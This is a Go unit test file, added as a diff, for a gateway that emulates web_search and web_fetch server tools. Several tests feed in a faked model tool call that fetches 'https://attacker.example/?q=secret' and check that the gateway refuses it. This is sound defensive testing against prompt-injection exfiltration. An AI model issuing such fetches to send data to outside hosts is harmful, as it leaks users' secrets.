@@ -0,0 +1,296 @@
+//go:build unit
+
+package service
+
+import (
+	"context"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/Wei-Shaw/sub2api/internal/pkg/ctxkey"
+	"github.com/Wei-Shaw/sub2api/internal/pkg/webfetch"
+	"github.com/Wei-Shaw/sub2api/internal/pkg/websearch"
+	"github.com/gin-gonic/gin"
+	"github.com/stretchr/testify/require"
+	"github.com/tidwall/gjson"
+)
+
+func TestShouldEmulateWebSearch_MixedTools(t *testing.T) {
+	mgr := websearch.NewManager([]websearch.ProviderConfig{{Type: "brave", APIKey: "k"}}, nil)
+	SetWebSearchManager(mgr)
+	defer SetWebSearchManager(nil)
+
+	setGlobalWebSearchConfig(&WebSearchEmulationConfig{
+		Enabled:   true,
+		Providers: []WebSearchProviderConfig{{Type: "brave", APIKey: "k"}},
+	})
+	defer clearGlobalWebSearchConfig()
+
+	svc := &GatewayService{settingService: newSettingServiceForWebSearchTest(true)}
+	account := newAnthropicAPIKeyAccount(WebSearchModeEnabled)
+	body := []byte(`{"tools":[{"type":"web_search_20250305","name":"web_search"},{"name":"get_weather","input_schema":{"type":"object"}}]}`)
+	require.True(t, svc.shouldEmulateWebSearch(context.Background(), account, nil, body))
+
+	hopCtx := context.WithValue(context.Background(), ctxkey.ServerToolLoopHop, true)
+	require.False(t, svc.shouldEmulateWebSearch(hopCtx, account, nil, body))
+}
+
+func TestIsWebSearchToolJSON_ClientFunctionNamedWebSearch(t *testing.T) {
+	require.False(t, isWebSearchToolJSON(gjson.Parse(`{"name":"web_search","input_schema":{"type":"object"}}`)))
+}
+
+func TestPrepareWebSearchLoopBody(t *testing.T) {
+	body := []byte(`{"model":"claude-sonnet-4-6","stream":true,` +
+		`"tools":[{"name":"get_weather","input_schema":{"type":"object"}},` +
+		`{"type":"web_search_20250305","name":"web_search","max_uses":2,"allowed_domains":["https://www.Example.com/docs"],"cache_control":{"type":"ephemeral"}}],` +
+		`"tool_choice":{"type":"tool","name":"web_search"},` +
+		`"messages":[{"role":"user","content":"hi"},{"role":"assistant","content":[` +
+		`{"type":"server_tool_use","id":"srvtoolu_1","name":"web_search","input":{"query":"go"}},` +
+		`{"type":"web_search_tool_result","tool_use_id":"srvtoolu_1","content":[{"type":"web_search_result","url":"https://go.dev","title":"Go"}]},` +
+		`{"type":"text","text":"Go.","citations":[{"type":"web_search_result_location","url":"https://go.dev"}]}]},` +
+		`{"role":"user","content":"more"}]}`)
+
+	out, opts, err := prepareServerToolLoopBody(body, true, false)
+	require.NoError(t, err)
+	require.Len(t, opts, 1)
+	require.Equal(t, 2, opts[toolNameWebSearch].maxUses)
+	require.Equal(t, []string{"example.com"}, opts[toolNameWebSearch].allowedDomains)
+
+	require.False(t, gjson.GetBytes(out, "stream").Bool())
+	tools := gjson.GetBytes(out, "tools").Array()
+	require.Len(t, tools, 2)
+	require.Equal(t, "get_weather", tools[0].Get("name").String())
+	require.Equal(t, toolNameWebSearch, tools[1].Get("name").String())
+	require.True(t, tools[1].Get("input_schema").Exists())
+	require.False(t, tools[1].Get("type").Exists())
+	require.Equal(t, "ephemeral", tools[1].Get("cache_control.type").String())
+
+	history := gjson.GetBytes(out, "messages.1.content").Array()
+	require.Len(t, history, 3)
+	for _, block := range history {
+		require.Equal(t, "text", block.Get("type").String())
+		require.False(t, block.Get("citations").Exists())
+	}
+	require.Contains(t, history[1].Get("text").String(), "https://go.dev")
+}
+
+func TestFilterWebSearchResults(t *testing.T) {
+	results := []websearch.SearchResult{
+		{URL: "https://docs.example.com/a"},
+		{URL: "https://example.org/b"},
+		{URL: "https://spam.example.com/c"},
+	}
+
+	allowed := filterWebSearchResults(results, serverToolOptions{allowedDomains: []string{"example.com"}})
+	require.Len(t, allowed, 2)
+
+	blocked := filterWebSearchResults(results, serverToolOptions{
+		allowedDomains: []string{"example.com"},
+		blockedDomains: []string{"spam.example.com"},
+	})
+	require.Len(t, blocked, 1)
+	require.Equal(t, "https://docs.example.com/a", blocked[0].URL)
+}
+
+func TestAppendWebSearchLoopTurn_ResetsForcedToolChoice(t *testing.T) {
+	body := []byte(`{"tools":[{"name":"web_search","input_schema":{}}],"tool_choice":{"type":"tool","name":"web_search"},"messages":[{"role":"user","content":"q"}]}`)
+	out, err := appendServerToolLoopTurn(body, `[{"type":"tool_use","id":"toolu_1","name":"web_search","input":{"query":"q"}}]`,
+		[]map[string]any{{"type": "tool_result", "tool_use_id": "toolu_1", "content": "r"}})
+	require.NoError(t, err)
+
+	msgs := gjson.GetBytes(out, "messages").Array()
+	require.Len(t, msgs, 3)
+	require.Equal(t, "assistant", msgs[1].Get("role").String())
+	require.Equal(t, "toolu_1", msgs[2].Get("content.0.tool_use_id").String())
+	require.Equal(t, "auto", gjson.GetBytes(out, "tool_choice.type").String())
+}
+
+type webSearchLoopFakeHop struct {
+	responses []string
+	bodies    [][]byte
+}
+
+func (f *webSearchLoopFakeHop) call(ctx context.Context, c *gin.Context, body []byte) (*ForwardResult, error) {
+	if !isServerToolLoopHop(ctx) {
+		return nil, errors.New("hop context not marked")
+	}
+	f.bodies = append(f.bodies, body)
+	resp := f.responses[len(f.bodies)-1]
+	c.Data(http.StatusOK, "application/json", []byte(resp))
+	return &ForwardResult{
+		Model: "claude-sonnet-4-6",
+		Usage: ClaudeUsage{
+			InputTokens:  int(gjson.Get(resp, "usage.input_tokens").Int()),
+			OutputTokens: int(gjson.Get(resp, "usage.output_tokens").Int()),
+		},
+	}, nil
+}
+
+func newWebSearchLoopForTest(hop *webSearchLoopFakeHop, stream bool) *serverToolLoop {
+	return &serverToolLoop{
+		hop: hop.call,
+		search: func(ctx context.Context, query string) (*websearch.SearchResponse, error) {
+			return &websearch.SearchResponse{Query: query, Results: []websearch.SearchResult{
+				{URL: "https://go.dev/doc", Title: "Go docs", Snippet: "Documentation"},
+			}}, nil
+		},
+		stream:    stream,
+		model:     "claude-sonnet-4-6",
+		readLimit: 1 << 20,
+	}
+}
+
+const webSearchLoopTestBody = `{"model":"claude-sonnet-4-6","stream":true,"messages":[{"role":"user","content":"latest go release?"}],` +
+	`"tools":[{"type":"web_search_20250305","name":"web_search"},{"name":"get_weather","input_schema":{"type":"object"}}]}`
+
+func TestWebSearchToolLoop_StreamContinuesAfterSearch(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	hop := &webSearchLoopFakeHop{responses: []string{
+		`{"id":"msg_1","model":"claude-sonnet-4-6","content":[{"type":"text","text":"Let me check."},{"type":"tool_use","id":"toolu_1","name":"web_search","input":{"query":"go release"}}],"stop_reason":"tool_use","usage":{"input_tokens":100,"output_tokens":20}}`,
+		`{"id":"msg_2","model":"claude-sonnet-4-6","content":[{"type":"text","text":"Go 1.26 is out."}],"stop_reason":"end_turn","usage":{"input_tokens":300,"output_tokens":15}}`,
+	}}
+	rec := httptest.NewRecorder()
+	c, _ := gin.CreateTestContext(rec)
+	c.Request = httptest.NewRequest(http.MethodPost, "/v1/messages", nil)
+
+	result, err := newWebSearchLoopForTest(hop, true).run(context.Background(), c, []byte(webSearchLoopTestBody))
+	require.NoError(t, err)
+	require.Equal(t, 400, result.Usage.InputTokens)
+	require.Equal(t, 35, result.Usage.OutputTokens)
+	require.NotNil(t, result.FirstTokenMs)
+
+	require.Len(t, hop.bodies, 2)
+	second := gjson.ParseBytes(hop.bodies[1])
+	require.Equal(t, "tool_result", second.Get("messages.2.content.0.type").String())
+	require.Equal(t, "toolu_1", second.Get("messages.2.content.0.tool_use_id").String())
+	require.Contains(t, second.Get("messages.2.content.0.content").String(), "https://go.dev/doc")
+
+	out := rec.Body.String()
+	require.Equal(t, 1, strings.Count(out, "event: message_start"))
+	require.Contains(t, out, `"type":"server_tool_use"`)
+	require.Contains(t, out, `"type":"web_search_tool_result"`)
+	require.Contains(t, out, "Go 1.26 is out.")
+	require.Contains(t, out, `"web_search_requests":1`)
+	require.Contains(t, out, `"stop_reason":"end_turn"`)
+	require.NotContains(t, out, `"name":"web_search","type":"tool_use"`)
+}
+
+func TestWebSearchToolLoop_MixedClientToolStops(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	hop := &webSearchLoopFakeHop{responses: []string{
+		`{"id":"msg_1","model":"claude-sonnet-4-6","content":[{"type":"tool_use","id":"toolu_1","name":"web_search","input":{"query":"weather"}},{"type":"tool_use","id":"toolu_2","name":"get_weather","input":{"city":"Paris"}}],"stop_reason":"tool_use","usage":{"input_tokens":50,"output_tokens":10}}`,
+	}}
+	rec := httptest.NewRecorder()
+	c, _ := gin.CreateTestContext(rec)
+	c.Request = httptest.NewRequest(http.MethodPost, "/v1/messages", nil)
+
+	result, err := newWebSearchLoopForTest(hop, false).run(context.Background(), c, []byte(webSearchLoopTestBody))
+	require.NoError(t, err)
+	require.Len(t, hop.bodies, 1)
+	require.Equal(t, 50, result.Usage.InputTokens)
+
+	resp := gjson.Parse(rec.Body.String())
+	require.Equal(t, "tool_use", resp.Get("stop_reason").String())
+	content := resp.Get("content").Array()
+	require.Len(t, content, 3)
+	require.Equal(t, "server_tool_use", content[0].Get("type").String())
+	require.Equal(t, "web_search_tool_result", content[1].Get("type").String())
+	require.Equal(t, "get_weather", content[2].Get("name").String())
+	require.EqualValues(t, 1, resp.Get("usage.server_tool_use.web_search_requests").Int())
+}
+
+func TestWebSearchToolLoop_FirstHopFailoverPassesThrough(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	failover := &UpstreamFailoverError{StatusCode: http.StatusServiceUnavailable}
+	loop := &serverToolLoop{
+		hop: func(ctx context.Context, c *gin.Context, body []byte) (*ForwardResult, error) {
+			return nil, failover
+		},
+		stream:    true,
+		readLimit: 1 << 20,
+	}
+	rec := httptest.NewRecorder()
+	c, _ := gin.CreateTestContext(rec)
+	c.Request = httptest.NewRequest(http.MethodPost, "/v1/messages", nil)
+
+	_, err := loop.run(context.Background(), c, []byte(webSearchLoopTestBody))
+	var got *UpstreamFailoverError
+	require.ErrorAs(t, err, &got)
+	require.Zero(t, rec.Body.Len())
+}
+
+func TestPrepareServerToolLoopBody_WebFetch(t *testing.T) {
+	body := []byte(`{"tools":[{"type":"web_search_20250305","name":"web_search"},` +
+		`{"type":"web_fetch_20250910","name":"web_fetch","max_uses":3,"max_content_tokens":1000,"citations":{"enabled":true}}],` +
+		`"messages":[{"role":"assistant","content":[` +
+		`{"type":"web_fetch_tool_result","tool_use_id":"srvtoolu_1","content":{"type":"web_fetch_result","url":"https://go.dev","content":{"type":"document","source":{"type":"text","media_type":"text/plain","data":"Go page"},"title":"Go"}}}]}]}`)
+
+	// 仅模拟 web_fetch 时 web_search 原样保留
+	out, opts, err := prepareServerToolLoopBody(body, false, true)
+	require.NoError(t, err)
+	require.Len(t, opts, 1)
+	require.Equal(t, 3, opts[toolNameWebFetch].maxUses)
+	require.Equal(t, 1000, opts[toolNameWebFetch].maxContentTokens)
+	require.True(t, opts[toolNameWebFetch].citations)
+
+	tools := gjson.GetBytes(out, "tools").Array()
+	require.Len(t, tools, 2)
+	require.Equal(t, "web_search_20250305", tools[0].Get("type").String())
+	require.Equal(t, toolNameWebFetch, tools[1].Get("name").String())
+	require.True(t, tools[1].Get("input_schema").Exists())
+
+	history := gjson.GetBytes(out, "messages.0.content.0")
+	require.Equal(t, "text", history.Get("type").String())
+	require.Contains(t, history.Get("text").String(), "Go page")
+}
+
+func TestServerToolURLSeen(t *testing.T) {
+	body := []byte(`{"messages":[{"role":"user","content":"read https://example.com/a?x=1\u0026y=2"}]}`)
+	require.True(t, serverToolURLSeen("https://example.com/a?x=1&y=2", body, ""))
+	require.True(t, serverToolURLSeen("https://go.dev/doc", body, "1. Go\n   https://go.dev/doc\n"))
+	require.False(t, serverToolURLSeen("https://attacker.example/?q=secret", body, ""))
+}
+
+func TestServerToolLoop_WebFetchAfterSearch(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	hop := &webSearchLoopFakeHop{responses: []string{
+		`{"id":"msg_1","content":[{"type":"tool_use","id":"toolu_1","name":"web_search","input":{"query":"go"}}],"stop_reason":"tool_use","usage":{"input_tokens":10,"output_tokens":5}}`,
+		`{"id":"msg_2","content":[{"type":"tool_use","id":"toolu_2","name":"web_fetch","input":{"url":"https://go.dev/doc"}},` +
+			`{"type":"tool_use","id":"toolu_3","name":"web_fetch","input":{"url":"https://attacker.example/?q=secret"}}],"stop_reason":"tool_use","usage":{"input_tokens":20,"output_tokens":5}}`,
+		`{"id":"msg_3","content":[{"type":"text","text":"Done."}],"stop_reason":"end_turn","usage":{"input_tokens":30,"output_tokens":5}}`,
+	}}
+	var fetched []string
+	loop := newWebSearchLoopForTest(hop, false)
+	loop.fetch = func(ctx context.Context, rawURL string) (*webfetch.FetchResponse, error) {
+		fetched = append(fetched, rawURL)
+		return &webfetch.FetchResponse{URL: rawURL, Title: "Go docs", Content: "Full documentation", RetrievedAt: time.Now()}, nil
+	}
+	rec := httptest.NewRecorder()
+	c, _ := gin.CreateTestContext(rec)
+	c.Request = httptest.NewRequest(http.MethodPost, "/v1/messages", nil)
+
+	body := `{"model":"claude-sonnet-4-6","messages":[{"role":"user","content":"go docs?"}],` +
+		`"tools":[{"type":"web_search_20250305","name":"web_search"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`
+	_, err := loop.run(context.Background(), c, []byte(body))
+	require.NoError(t, err)
+	require.Equal(t, []string{"https://go.dev/doc"}, fetched)
+	require.Len(t, hop.bodies, 3)
+
+	resp := gjson.Parse(rec.Body.String())
+	content := resp.Get("content").Array()
+	require.Len(t, content, 7)
+	require.Equal(t, "web_fetch_tool_result", content[3].Get("type").String())
+	require.Equal(t, "web_fetch_result", content[3].Get("content.type").String())
+	require.Equal(t, "Full documentation", content[3].Get("content.content.source.data").String())
+	require.Equal(t, "web_fetch_tool_error", content[5].Get("content.type").String())
+	require.Equal(t, webFetchErrorURLNotAllowed, content[5].Get("content.error_code").String())
+	require.EqualValues(t, 1, resp.Get("usage.server_tool_use.web_search_requests").Int())
+	require.EqualValues(t, 1, resp.Get("usage.server_tool_use.web_fetch_requests").Int())
+
+	third := gjson.ParseBytes(hop.bodies[2])
+	require.True(t, third.Get("messages.4.content.1.is_error").Bool())
+}